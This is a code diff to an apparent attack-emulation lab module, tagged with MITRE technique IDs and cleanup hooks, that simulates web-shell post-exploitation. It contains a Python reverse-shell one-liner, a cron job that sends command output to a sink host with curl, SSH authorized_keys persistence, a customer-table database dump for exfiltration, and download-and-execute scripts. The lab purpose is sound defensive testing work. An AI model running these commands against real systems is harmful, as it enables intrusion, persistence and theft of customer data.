@@ -2,10 +2,11 @@
 
 from pathlib import Path
 
+from foreseen.lab.accounts import forget_cron, forget_key, make_key
 from foreseen.lab.attacks.tools import Attack, Listener
 from foreseen.lab.channels import Login
-from foreseen.lab.host import forget_key, run
-from foreseen.lab.layout import SYSTEM
+from foreseen.lab.host import run
+from foreseen.lab.layout import SYSTEM, TMP, VAR_TMP
 from foreseen.lab.themes import token
 
 SHOP_SQL = "-h 127.0.1.30 -p 5433 -U shop -d shop"
@@ -34,7 +35,7 @@ def reverse_shell(attack: Attack) -> None:
     """Web shell opens a shell to a listener; the attacker types in it."""
     listener = Listener(attack)
     host, port = listener.address, listener.port
-    pipe = attack.hidden(where=("/tmp",))
+    pipe = attack.hidden(where=(TMP,))
     attack.run.step("T1059.004")
     python = (
         f'import socket,os,subprocess as p;s=socket.socket();s.connect(("{host}",{port}));'
@@ -68,9 +69,9 @@ def reverse_shell(attack: Attack) -> None:
 
 def cron_persistence(attack: Attack) -> None:
     """Web shell plants a script and a crontab line; cron starts it."""
-    script = attack.hidden(where=("/var/tmp", "/srv/shop/uploads", "/srv/shop/cache"))
+    script = attack.hidden(where=(VAR_TMP, "/srv/shop/uploads", "/srv/shop/cache"))
     sink = attack.sink()
-    attack.undo.append(lambda: attack.forget_cron("web", script))
+    attack.undo.append(lambda: forget_cron("web", script))
     attack.run.step("T1059.004")
     body = attack.choose(
         f"#!/bin/sh\\nid | curl -s -T - http://{sink}/s\\n",
@@ -89,7 +90,7 @@ def cron_persistence(attack: Attack) -> None:
 def ssh_key_persistence(attack: Attack) -> None:
     """Web shell adds a key to authorized_keys; the attacker logs in with it."""
     key = SYSTEM / f"key-{attack.run.name}"
-    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", token(attack.rng, 5), "-f", str(key))
+    make_key(key, token(attack.rng, 5))
     text = Path(f"{key}.pub").read_text().strip()
     attack.undo.append(lambda: forget_key("web", text))
     attack.run.step("T1033")
@@ -123,7 +124,7 @@ def db_dump_exfil(attack: Attack) -> None:
         attack.choose(
             f"pg_dump {SHOP_SQL} -t customers -f {path}",
             f'psql {SHOP_SQL} -Atc "copy customers to stdout" > {path}',
-            f'psql {SHOP_SQL} -c "select * from customers" -o {path}',
+            f'psql {SHOP_SQL} -c "table customers" -o {path}',
         )
     )
     attack.pause()
@@ -144,8 +145,9 @@ def db_dump_exfil(attack: Attack) -> None:
 
 def download_exec_interpreter(attack: Attack) -> None:
     """Web shell pipes a script from the network into an interpreter."""
-    mark = attack.hidden(where=("/tmp",))
-    script = f"id > {mark}\nuname -a >> {mark}\nps aux | head -5 >> {mark}\nls /home >> {mark}\nrm -f {mark}\n"
+    mark = attack.hidden(where=(TMP,))
+    lines = ("id", "uname -a", "ps aux | head -5", "ls /home")
+    script = "".join(f"{line} >> {mark}\n" for line in lines) + f"rm -f {mark}\n"
     python = f"import os\nos.system('id > {mark}; ss -ltn >> {mark}; rm {mark}')\n"
     number = attack.run.number % 4
     address = attack.serve(python if number == 1 else script)
